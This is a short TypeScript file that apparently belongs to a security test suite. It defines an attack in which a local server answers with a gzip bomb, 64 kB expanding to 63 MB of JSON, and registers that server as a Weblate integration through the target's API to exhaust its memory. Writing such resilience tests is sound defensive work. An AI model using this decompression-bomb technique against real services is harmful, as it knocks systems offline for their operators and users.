import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { gzipSync } from 'node:zlib';
import type { Attack } from './attack.ts';

const VALUES = 21_000_000;
const REQUESTS = 3;

/** A translation management system of the attacker that answers 64 kB, which are 63 MB of empty objects. */
export const inflatingAnswers: Attack = {
  name: 'inflating answers of a system',
  async prepare(attacker) {
    const answer = gzipSync(`[${'{},'.repeat(VALUES)}{}]`);
    const server = createServer((_request, response) => {
      response.writeHead(200, { 'content-type': 'application/json', 'content-encoding': 'gzip' }).end(answer);
    });
    await once(server.listen(0, '127.0.0.1'), 'listening');
    const json = { token: 'a token', base_url: `http://127.0.0.1:${(server.address() as AddressInfo).port}` };
    return async () => {
      const save = () => attacker.send('PUT', '/v1/integrations/weblate', { json });
      await Promise.all(Array.from({ length: REQUESTS }, save));
      server.close();
    };
  },
};
